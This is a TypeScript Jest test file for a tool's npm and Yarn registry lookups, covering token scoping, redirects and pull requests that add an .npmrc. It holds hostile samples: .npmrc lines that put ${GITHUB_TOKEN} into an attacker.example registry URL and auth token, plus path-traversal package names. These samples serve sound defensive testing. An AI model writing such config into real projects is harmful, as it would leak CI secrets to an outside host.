import * as fs from 'node:fs'
import * as http from 'node:http'
import type { AddressInfo } from 'node:net'
import * as os from 'node:os'
import * as path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { authFor, fetchPublishedVersions, loadRegistryConfig, registryFor, resolveRegistryConfig } from '../../../src/bisect/registry.js'
import { type Registry, rowCache, startRegistry } from '../../support/registry.js'

interface Recorder {
  url: string
  seen: { path: string; authorization?: string }[]
  close(): Promise<void>
}

/** A loopback registry that records who asked with what, and answers `answer(path)`. */
async function recorder(answer: (p: string) => { status: number; body?: unknown; location?: string }): Promise<Recorder> {
  const seen: Recorder['seen'] = []
  const server = http.createServer((req, res) => {
    seen.push({ path: req.url ?? '', authorization: req.headers.authorization })
    const a = answer(req.url ?? '')
    res.writeHead(a.status, { 'content-type': 'application/json', ...(a.location ? { location: a.location } : {}) })
    res.end(a.body === undefined ? '' : JSON.stringify(a.body))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve()))
  }
}

let registry: Registry
beforeAll(async () => {
  registry = await startRegistry()
  for (const v of ['1.2.0', '1.3.0', '2.0.0']) await registry.publish(rowCache('row-cache', v, false))
})
afterAll(() => registry.stop())

function project(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'memgate-npmrc-'))
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true })
    fs.writeFileSync(path.join(dir, name), text)
  }
  return dir
}

describe('resolveRegistryConfig', () => {
  it('takes the environment over the project over the user, per key, and expands $-brace variables', () => {
    const config = resolveRegistryConfig(
      [
        {
          file: 'project/.npmrc',
          kind: 'npmrc',
          // npmrc's own variable syntax, written as the file has it
          text: `@acme:registry=https://npm.acme.test/r\n//npm.acme.test/r/:_authToken=$\{ACME_TOKEN}\n; comment\n`
        },
        {
          file: '~/.npmrc',
          kind: 'npmrc',
          text:
            'registry=https://user.test/\n@acme:registry=https://wrong.test/\n//user.test/:username=u\n//user.test/:_password=' +
            Buffer.from('p').toString('base64') +
            '\n'
        }
      ],
      { ACME_TOKEN: 's3cret', npm_config_registry: 'https://env.test' }
    )
    expect(config.registry).toBe('https://env.test/')
    expect(registryFor(config, '@acme/x')).toBe('https://npm.acme.test/r/')
    expect(registryFor(config, 'row-cache')).toBe('https://env.test/')
    expect(authFor(config, 'https://npm.acme.test/r/@acme%2fx')).toBe('Bearer s3cret')
    expect(authFor(config, 'https://user.test/row-cache')).toBe(`Basic ${Buffer.from('u:p').toString('base64')}`)
    // another host, or a path outside the registry's, gets nothing
    expect(authFor(config, 'https://npm.acme.test.evil.test/r/x')).toBeUndefined()
    expect(authFor(config, 'https://npm.acme.test/other/x')).toBeUndefined()
    expect(authFor(config, 'https://env.test/row-cache')).toBeUndefined()
  })

  it('reads Yarn Berry settings from .yarnrc.yml', () => {
    const config = resolveRegistryConfig([
      {
        file: '.yarnrc.yml',
        kind: 'yarnrc',
        text: 'npmRegistryServer: "https://yarn.test"\nnpmScopes:\n  acme:\n    npmRegistryServer: "https://acme.test/npm"\n    npmAuthToken: tok\n'
      }
    ])
    expect(config.registry).toBe('https://yarn.test/')
    expect(registryFor(config, '@acme/a')).toBe('https://acme.test/npm/')
    expect(authFor(config, 'https://acme.test/npm/@acme%2fa')).toBe('Bearer tok')
    expect(authFor(config, 'https://yarn.test/a')).toBeUndefined()
  })

  it('falls back to the public registry', () => {
    expect(resolveRegistryConfig([]).registry).toBe('https://registry.npmjs.org/')
  })
})

describe('fetchPublishedVersions', () => {
  it("lists the versions on the registry the project's .npmrc names", async () => {
    const dir = project({ '.npmrc': `registry=${registry.url}\n` })
    const config = loadRegistryConfig(dir, dir, 'npm', { HOME: dir })
    expect((await fetchPublishedVersions(config, 'row-cache')).sort()).toEqual(['1.2.0', '1.3.0', '2.0.0'])
    await expect(fetchPublishedVersions(config, 'no-such-package')).rejects.toThrow(
      `no-such-package is not on the registry ${registry.url} (404)`
    )
  })

  it('refuses a name that is not a package name before asking anything', async () => {
    const dead = resolveRegistryConfig([{ file: '.npmrc', kind: 'npmrc', text: 'registry=http://127.0.0.1:1/\n' }])
    for (const name of ['@acme/../../-/user/org.couchdb.user:x', '../x', 'a b', '']) {
      await expect(fetchPublishedVersions(dead, name)).rejects.toThrow('is not an npm package name')
    }
  })

  it('sends a scoped token to its own registry only, and not across a redirect', async () => {
    const other = await recorder(() => ({ status: 200, body: { versions: { '1.0.0': {} } } }))
    const scoped = await recorder((p) =>
      p.includes('moved')
        ? { status: 302, location: `${other.url}@acme%2fmoved` }
        : { status: 200, body: { versions: { '3.0.0': {}, '3.1.0': {} } } }
    )
    try {
      const dir = project({
        '.npmrc': `registry=${other.url}\n@acme:registry=${scoped.url}\n${scoped.url.replace('http:', '')}:_authToken=\${TOKEN}\n`
      })
      const config = loadRegistryConfig(dir, dir, 'pnpm', { HOME: dir, TOKEN: 'tok-123' })
      expect(await fetchPublishedVersions(config, '@acme/lib')).toEqual(['3.0.0', '3.1.0'])
      expect(await fetchPublishedVersions(config, 'plain')).toEqual(['1.0.0'])
      expect(await fetchPublishedVersions(config, '@acme/moved')).toEqual(['1.0.0'])
      expect(scoped.seen.map((s) => [s.path, s.authorization])).toEqual([
        ['/@acme%2flib', 'Bearer tok-123'],
        ['/@acme%2fmoved', 'Bearer tok-123']
      ])
      expect(other.seen.map((s) => [s.path, s.authorization])).toEqual([
        ['/plain', undefined],
        ['/@acme%2fmoved', undefined]
      ])
    } finally {
      await Promise.all([other.close(), scoped.close()])
    }
  })

  it('says which registry refused or could not be reached', async () => {
    const refusing = await recorder(() => ({ status: 401, body: { error: 'unauthorized' } }))
    try {
      const config = resolveRegistryConfig([{ file: '.npmrc', kind: 'npmrc', text: `registry=${refusing.url}\n` }])
      await expect(fetchPublishedVersions(config, 'row-cache')).rejects.toThrow(
        `The registry ${refusing.url} refused to list row-cache's versions (401, no token is configured for it)`
      )
    } finally {
      await refusing.close()
    }
    const gone = await recorder(() => ({ status: 200 }))
    await gone.close()
    const config = resolveRegistryConfig([{ file: '.npmrc', kind: 'npmrc', text: `registry=${gone.url}\n` }])
    await expect(fetchPublishedVersions(config, 'row-cache')).rejects.toThrow(
      `The registry ${gone.url} could not be reached while listing row-cache's versions (ECONNREFUSED)`
    )
  })
})

// memgate's own environment holds the token, and a PR can add an .npmrc: bisect's registry lookups
// must send neither memgate's secrets nor anything to where the PR says.
describe('the registry lookups and the PR', () => {
  const env = { GITHUB_TOKEN: 'ghs_memgateOwnToken0123456789', NPM_TOKEN: 'npm_passedOnPurpose0123', HOME: '/nonexistent' }
  const npmrc = (text: string) => [{ file: '.npmrc', kind: 'npmrc' as const, text }]

  it('expand only the variables pass-env names', () => {
    const config = resolveRegistryConfig(
      npmrc(
        // biome-ignore lint/suspicious/noTemplateCurlyInString: npmrc's own ${VAR} syntax, not a template
        'registry=https://attacker.example/x/${GITHUB_TOKEN}/\n//attacker.example/:_authToken=${GITHUB_TOKEN}\n//registry.example/:_authToken=${NPM_TOKEN}\n'
      ),
      env,
      ['NPM_TOKEN']
    )
    expect(config.registry).toBe('https://attacker.example/x//')
    expect(config.auth).toEqual({ '//registry.example/': 'Bearer npm_passedOnPurpose0123' })
    expect(JSON.stringify(config)).not.toContain(env.GITHUB_TOKEN)
  })

  it('send a credential only over https, or to a registry on this machine', () => {
    const config = resolveRegistryConfig(npmrc('//registry.example/:_authToken=tok-https\n//127.0.0.1:4873/:_authToken=tok-local\n'), {})
    expect(authFor(config, 'https://registry.example/ms')).toBe('Bearer tok-https')
    expect(authFor(config, 'http://registry.example/ms')).toBeUndefined()
    expect(authFor(config, 'http://127.0.0.1:4873/ms')).toBe('Bearer tok-local')
  })

  it('read the configuration of the commit they are given, not the working tree', async () => {
    const { loadRegistryConfigAt } = await import('../../../src/bisect/registry.js')
    const { createGit, initRepo, commitAll } = await import('../../../src/git.js')
    const dir = project({ '.npmrc': 'registry=https://base.example/\n' })
    await initRepo(dir)
    const base = await commitAll(dir, 'base')
    // biome-ignore lint/suspicious/noTemplateCurlyInString: npmrc's own ${VAR} syntax, not a template
    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://attacker.example/${GITHUB_TOKEN}/\n')
    const head = await commitAll(dir, 'head')
    const git = await createGit(dir)
    expect((await loadRegistryConfigAt(git, base, [''], 'npm', env, ['NPM_TOKEN'])).registry).toBe('https://base.example/')
    // Without pass-env naming it, memgate's token is not expanded even from a file it reads.
    expect((await loadRegistryConfigAt(git, head, [''], 'npm', env)).registry).toBe('https://attacker.example//')
  })

  it('stop reading an answer past its size limit', async () => {
    const big = await recorder(() => ({ status: 200, body: { versions: { '1.0.0': {} }, pad: 'x'.repeat(4096) } }))
    try {
      const config = resolveRegistryConfig(npmrc(`registry=${big.url}\n`))
      await expect(fetchPublishedVersions(config, 'row-cache', 1024)).rejects.toThrow(
        `The registry ${big.url} sent more than 1024 bytes for row-cache`
      )
      expect(await fetchPublishedVersions(config, 'row-cache')).toEqual(['1.0.0'])
    } finally {
      await big.close()
    }
  })
})
